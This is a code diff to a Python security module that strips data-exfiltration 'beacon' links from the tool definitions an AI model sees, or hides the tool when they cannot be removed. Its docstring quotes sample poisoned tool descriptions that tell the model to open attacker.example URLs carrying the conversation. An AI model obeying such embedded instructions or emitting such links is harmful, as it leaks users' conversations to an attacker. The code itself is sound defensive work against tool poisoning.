@@ -58,7 +58,14 @@ from cordon.content.normalize import _Builder, _classify_invisible
 from cordon.content.scanner import MAX_HITS_PER_RULE, Hit, scan_hits
 from cordon.textnorm import INVISIBLE_RE
 
-__all__ = ["Evaluation", "evaluate_result", "sanitize_json_text", "sanitize_text", "strip_ansi"]
+__all__ = [
+    "Evaluation",
+    "evaluate_result",
+    "sanitize_definition",
+    "sanitize_json_text",
+    "sanitize_text",
+    "strip_ansi",
+]
 
 Action = Literal["deliver", "sanitise", "block"]
 Mode = Literal["monitor", "warn", "block"]
@@ -484,6 +491,45 @@ def strip_ansi(value: Any) -> Any:
             return value
         return dict(pairs)
     return value
+
+
+def sanitize_definition(tool: dict[str, Any]) -> dict[str, Any] | None:
+    """``tool`` (a tool definition) with every beacon of medium severity or more removed as
+    warn mode removes it from a result (``[untrusted link removed]``): a description that
+    tells the model to render or open ``[x](https://attacker.example/?q={conversation})`` or
+    a bare ``https://attacker.example/c?data=<CONVERSATION_SUMMARY>`` carries the model's
+    data out the first time it obeys. ``tool`` itself when it holds none; ``None`` when one
+    cannot be removed (in an object key: renaming a property changes the schema calls are
+    checked against; or still found once rewritten), for the caller to hide the tool. Other
+    findings are left as they are (a tool is hidden for them at the block threshold)."""
+    edits: list[tuple[str, str]] = []
+    keyed = False
+
+    def on_hits(path: str, text: str, hits: list[Hit]) -> None:
+        nonlocal keyed
+        mine = [h for h in hits if h.rule.id in _BEACON_RULES and SEVERITY_ORDER[h.severity] >= 2]
+        if not mine:
+            return
+        keyed = keyed or path.endswith("#key")
+        edits.append((path, sanitize_text(text, mine)))
+
+    scan_value(tool, on_hits=on_hits, identifiers=True)
+    if not edits:
+        return tool
+    if keyed:
+        return None
+    doc = copy.deepcopy(tool)
+    try:
+        for path, new in sorted(edits, key=lambda pe: -pe[0].count("/")):
+            doc = _set_path(doc, path, new)
+    except (KeyError, IndexError, TypeError, ValueError):
+        return None
+    left = [
+        f
+        for f in scan_value(doc, identifiers=True)
+        if f.rule in _BEACON_RULES and SEVERITY_ORDER[f.severity] >= 2
+    ]
+    return None if left else doc
 
 
 def _set_path(doc: Any, path: str, text: str) -> Any:
